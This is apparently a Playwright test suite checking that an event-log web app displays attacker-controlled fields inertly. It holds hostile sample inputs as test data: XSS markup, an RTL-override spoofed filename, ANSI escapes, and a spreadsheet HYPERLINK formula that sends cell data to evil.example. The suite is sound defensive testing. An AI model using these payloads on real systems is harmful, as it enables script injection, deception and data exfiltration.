"""What an attacker may write into an event is shown on every page as what it is, and does nothing there."""

import csv
import io
import json
import re
from collections.abc import Callable
from pathlib import Path
from urllib.parse import quote

import pytest
from playwright.sync_api import Page, expect
from tests.kit.events_page import exported, settled
from tests.kit.service import House, events
from tests.kit.window import Look, still

Open = Callable[..., Look]
WHEN = "2026-01-02T03:04:05Z"  # long before the sample account's fortnight, so that no other story meets it
MARKUP = "<img src=x onerror=alert(1)><script>alert(2)</script>"
RTL, ANSI = "\u202egnp.exe", "\u001b[31mred\u001b[0m"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'
WHO = f"{MARKUP}{RTL}{ANSI}"
WHAT = f"i-{MARKUP}{RTL}"
INERT_WHO = "<img src=x onerror=alert(1)><script>alert(2)</script>⟨U+202E⟩gnp.exe⟨U+001B⟩[31mred⟨U+001B⟩[0m"
LONG = "x" * 256_000
# What of an event could run, load or hide: anything that React did not write as text.
ALIVE = """
() => [document.querySelectorAll('main img, main script, main iframe, .palette img, .facets img').length,
       [...document.querySelectorAll('main a')].filter(one => /^(javascript|data):/i.test(one.getAttribute('href') ?? '')).length,
       /[\\u202a-\\u202e\\u2066-\\u2069\\u001b]/.test(document.body.innerText)]
"""


def within(event_id: str, **more: object) -> bytes:
    """One event with something hostile in every field that a page shows."""
    usual = {
        "eventTime": WHEN,
        "eventName": f"Delete{MARKUP}",
        "serviceName": "Hostile",
        "sourceIpAddress": f"203.0.113.9{RTL}",
        "userAgent": FORMULA,
        "errorCode": f"{ANSI}{MARKUP}",
        "errorMessage": FORMULA,
        "acsRegion": f"cn-{RTL}",
        "userIdentity": {"userName": WHO, "type": "ram-user", "accessKeyId": f"LTAI{MARKUP}"},
        "resourceType": f"ACS::{MARKUP}",
        "resourceName": WHAT,
        "requestParameters": {"a": FORMULA, MARKUP: MARKUP, RTL: "y"},
    }
    return events(event_id, **(usual | more))


@pytest.fixture(scope="session")
def hostile(house: House) -> str:
    """The id of an event that is searchable."""
    house.client.post("/v1/events", within("hostile-page"), content_type="application/x-ndjson")
    house.running.until(lambda: _is_there(house, "hostile-page"), "it is searchable")
    return "hostile-page"


def _is_there(house: House, event_id: str) -> bool:
    return house.client.request("GET", f"/v1/events/{event_id}", b"", {}).status == 200


def watched(window: Look) -> list[str]:
    """What asks for attention from here on, as a script that ran would."""
    dialogs: list[str] = []
    window.page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    return dialogs


def dead(window: Look, dialogs: list[str]) -> None:
    """Nothing of it ran, nothing was loaded, and no mark that turns text around is in the page."""
    assert (window.page.evaluate(ALIVE), dialogs, window.complaints) == ([0, 0, False], [], [])


@pytest.mark.parametrize(
    ("path", "shown"),
    [
        ("/events?q=serviceName%3A%20Hostile&from=", ".list .row"),
        ("/events?q=serviceName%3A%20Hostile&from=", ".facets .facet-value >> nth=1"),
        ("/events?q=serviceName%3A%20Hostile&from=&open=hostile-page&cols=userAgent,errorCode,resourceName&pin=hostile-page", ".list .fields"),
        ("/events?mode=sql&q=serviceName%3A%20Hostile&from=&sql=" + quote('select "userIdentity.userName" as u, userAgent, errorCode, resourceName'), ".rows td"),
        ("/event/hostile-page", ".fields"),
        (f"/actor/user/{quote(WHO, safe='')}", "h1"),
        (f"/actor/key/{quote('LTAI' + MARKUP, safe='')}", ".timeline li"),
        (f"/actor/address/{quote('203.0.113.9' + RTL, safe='')}", "h1"),
        (f"/resource/{quote(WHAT, safe='')}", ".timeline li, .tile"),
    ],
    ids=["list", "facets", "detail and columns and pins", "sql", "event", "actor", "leaked key", "address", "resource"],
)  # fmt: skip
def test_it_is_inert_on_every_page(look: Open, hostile: str, path: str, shown: str) -> None:
    """Markup is text, marks are told by their codes, and a link leads to a page of ours."""
    window = look("/settings")
    dialogs = watched(window)
    page = window.go(path)
    page.locator(shown).first.wait_for()
    still(page)

    assert "U+202E" in page.inner_text("body")
    dead(window, dialogs)


@pytest.mark.parametrize("tab", ["Fields", "Request and answer", "What changed", "Raw", "Proof"])
def test_it_is_inert_in_every_tab_of_an_event(look: Open, hostile: str, tab: str) -> None:
    """The bytes as they came are shown, too, and are as dead."""
    window = look("/settings")
    dialogs = watched(window)
    page = window.go(f"/event/{hostile}")
    page.get_by_role("tab", name=tab).click()
    still(page)
    page.locator("[role=tabpanel]").first.wait_for()

    dead(window, dialogs)


def test_it_is_inert_where_something_is_pasted(look: Open, hostile: str) -> None:
    """The palette shows what the record knows of the text, and lands on its page."""
    window = look("/settings")
    dialogs = watched(window)
    page = window.page
    page.locator(".frame").wait_for()
    page.keyboard.press("Control+k")
    page.locator(".palette input").fill(WHO)
    expect(page.locator(".palette")).to_contain_text("U+202E")
    dead(window, dialogs)
    page.keyboard.press("Enter")
    expect(page.locator(".palette")).to_have_count(0)
    still(page)
    dead(window, dialogs)


def test_a_name_is_shown_as_what_it_is(look: Open, hostile: str) -> None:
    """Hidden characters have names; nobody has to guess why a line looks odd."""
    window = look(f"/actor/user/{quote(WHO, safe='')}?from=")
    expect(window.page.locator("h1")).to_contain_text(INERT_WHO[:100])
    window.shot("hostile-actor")
    window.go("/events?q=serviceName%3A%20Hostile&from=")
    expect(window.page.locator(".list .row").first).to_contain_text("⟨U+202E⟩")
    window.shot("hostile-list")


def test_nothing_that_is_exported_is_a_formula(look: Open, hostile: str, tmp_path: Path) -> None:
    """A colleague opens the file in a spreadsheet; JSON keeps the bytes as they are."""
    page = look("/events?q=serviceName%3A%20Hostile&from=").page
    page.locator(".list .row").first.wait_for()
    page.get_by_role("button", name="Export", exact=True).click()
    found = {}
    for form in ("csv", "jsonl"):
        page.locator(".export select").select_option(form)
        made = exported(page, page.get_by_role("button", name=re.compile("^Export \\d")))
        with page.expect_download() as download:
            made.get_by_role("link", name="Download").click()
        download.value.save_as(tmp_path / form)
        found[form] = (tmp_path / form).read_bytes().decode()
    cells = [cell for row in csv.reader(io.StringIO(found["csv"])) for cell in row]

    assert (
        [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))],
        f"'{FORMULA}" in cells,
    ) == ([], True)
    assert any(json.loads(line)["userAgent"] == FORMULA for line in found["jsonl"].splitlines())


def test_values_of_256_kb_do_not_stop_the_list(look: Open, house: House) -> None:
    """A page of events has a size, not a number alone: whoever fills the record with long values holds up nobody."""
    for number in range(80):
        line = events(
            f"huge-{number}",
            serviceName="Huge",
            eventTime=WHEN,
            requestParameters={"Content": LONG[:240_000]},
        )
        house.client.post("/v1/events", line, content_type="application/x-ndjson")
    house.running.until(lambda: _is_there(house, "huge-79"), "they are searchable")
    window = look("/settings")
    sizes: list[int] = []
    window.page.on(
        "response", lambda one: sizes.append(len(one.body())) if one.url.endswith("/v1/search") else None
    )
    page: Page = window.go("/events?q=serviceName%3A%20Huge&from=&runs=open")
    page.locator(".list .row").first.wait_for()
    rows = 0
    for _ in range(900):
        page.locator(".list").evaluate("list => list.scrollTo(0, list.scrollHeight)")
        page.wait_for_timeout(100)
        rows = int(page.locator(".list .row").last.get_attribute("aria-setsize") or 0)
        if rows == 80:
            break
    page.locator(".row-toggle").last.click()
    expect(page.locator(".fields")).to_contain_text("Show all 240,000 characters")
    page.get_by_role("button", name="Only with this value: requestParameters.Content").click()
    settled(page, 80)

    assert (rows, max(sizes) < 10_000_000, window.complaints) == (80, True, [])
